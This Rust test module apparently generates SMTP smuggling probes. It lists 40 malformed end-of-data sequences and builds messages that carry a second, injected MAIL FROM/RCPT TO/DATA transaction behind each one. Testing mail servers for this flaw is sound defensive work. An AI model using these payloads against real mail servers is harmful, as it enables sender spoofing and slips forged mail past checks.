//! What somebody, somewhere, takes for the end of a message, and what looks like it.

/// The one that is the end of data.
pub(crate) const REAL: &[u8] = b"\r\n.\r\n";

/// Each stands between a message and what is to be smuggled behind it. All but the first are no end of data where they
/// hold no [`REAL`] one.
pub(crate) const VARIANTS: [&[u8]; 40] = [
    REAL,
    b"\n.\n",
    b"\r.\r",
    b"\n.\r\n",
    b"\r\n.\n",
    b"\r\n.\r",
    b"\r.\n",
    b"\r.\r\n",
    b"\n.\r",
    b"\n\n.\n\n",
    b"\r\r.\r\r",
    b"\n\r.\n\r",
    b"\r\n\n.\r\n",
    b"\r\n\r.\r\n",
    b"\r\r\n.\r\r\n",
    b"\r\n.\r\r\n",
    b"\r\r\n.\r\n",
    b"\r\n.\n\r\n",
    b"\r\n.\r\n.\r\n",
    b"\r\n..\r\n",
    b"\r\n...\r\n",
    b"\n..\n",
    b"\n..\r\n",
    b"\r..\r",
    b"\r\n..\n",
    b"\r\n\0.\r\n",
    b"\r\n.\0\r\n",
    b"\0\r\n.\r\n",
    b"\r\0\n.\r\0\n",
    b"\n\0.\n",
    b"\r\n. \r\n",
    b"\r\n.\t\r\n",
    b"\r\n .\r\n",
    b"\r\n.\x0b\r\n",
    b"\x0b.\x0b",
    b"\x0c\r\n\x0c.\r\n",
    b"\x1a\r\n",
    b"\xc2\x85.\xc2\x85",
    b"\xe2\x80\xa8.\xe2\x80\xa8",
    b"\x8d\x8a.\x8d\x8a",
];

/// A message, the variant, and a whole transaction behind it; `name` is in everything that could be found again. What
/// follows DATA, up to and with its real end.
pub(crate) fn content(name: &str, variant: &[u8], recipient: &str) -> Vec<u8> {
    let first = format!("Subject: {name} first\r\nMessage-ID: <{name}first@client.test>\r\n\r\n.. and more");
    let second = format!(
        "MAIL FROM:<evil-{name}@client.test>\r\nRCPT TO:<{recipient}>\r\nDATA\r\n\
         Subject: {name} second\r\nMessage-ID: <{name}second@client.test>\r\n\r\nsmuggled\r\n.\r\n"
    );
    [first.as_bytes(), variant, second.as_bytes()].concat()
}
